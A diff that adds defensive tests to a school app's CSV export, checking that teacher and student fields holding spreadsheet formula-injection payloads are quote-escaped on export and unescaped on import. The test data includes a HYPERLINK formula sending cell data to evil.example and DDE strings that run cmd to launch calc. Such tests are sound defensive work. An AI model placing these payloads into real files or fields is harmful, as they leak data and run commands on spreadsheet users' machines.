@@ -45,6 +45,38 @@ describe('CSV export', () => {
   });
 });
 
+describe('CSV export opened in a spreadsheet', () => {
+  const link = '=HYPERLINK("http://evil.example/?x="&C2,"Marta")';
+  const command = "=cmd|' /C calc'!A0";
+  /** The file as a spreadsheet reads it: each cell's first character decides whether it is a formula. */
+  const readBack = (body: string) => parse(body, { columns: true, bom: true }) as Record<string, string>[];
+
+  it("quotes a teacher's name and phone set on their own profile, and a student's own phone, so no cell starts a formula", async () => {
+    const marta = await signInAs(context, 'teacher');
+    const own = await context.app.inject({ method: 'PUT', url: '/api/teacher/profile', headers: marta.auth, payload: { full_name: link, phone: command } });
+    expect(own.statusCode).toBe(200);
+    const pupil = await signInAs(context, 'student');
+    expect((await context.app.inject({ method: 'PUT', url: '/api/student/profile', headers: pupil.auth, payload: { phone: '@SUM(1+1)*cmd|\' /C calc\'!A0' } })).statusCode).toBe(200);
+
+    const teachersCsv = await context.app.inject({ method: 'GET', url: '/api/staff/teachers.csv?q=evil.example', headers: staff.auth });
+    const [row] = readBack(teachersCsv.body);
+    expect(row).toMatchObject({ full_name: `'${link}`, phone: `'${command}` });
+    const studentsCsv = await context.app.inject({ method: 'GET', url: '/api/staff/students.csv', headers: staff.auth });
+    const studentRows = readBack(studentsCsv.body);
+    const phones = studentRows.map((each) => each.phone).filter(Boolean);
+    expect(phones).toEqual(["'@SUM(1+1)*cmd|' /C calc'!A0"]);
+    for (const each of [row!, ...studentRows]) for (const value of Object.values(each)) expect(value).not.toMatch(/^[=+\-@\t\r]/);
+  });
+
+  it('takes the quote off again when the exported file is imported back', async () => {
+    const csv = [STUDENT_CSV_COLUMNS.join(','), `Vuelta Importada,VUELTA-1,vuelta@alumnos.test,'+502 5555 1234,,,,`].join('\n');
+    const plan = (await preview(staff, 'students', csv)).json<ImportPreview>();
+    expect((await confirm(staff, plan.import_id)).statusCode).toBe(200);
+    const [row] = await context.db.select({ phone: students.phone }).from(students).where(eq(students.studentId, 'VUELTA-1'));
+    expect(row?.phone).toBe('+502 5555 1234');
+  });
+});
+
 describe('CSV import', () => {
   const header = STUDENT_CSV_COLUMNS.join(';');
   const csv = [
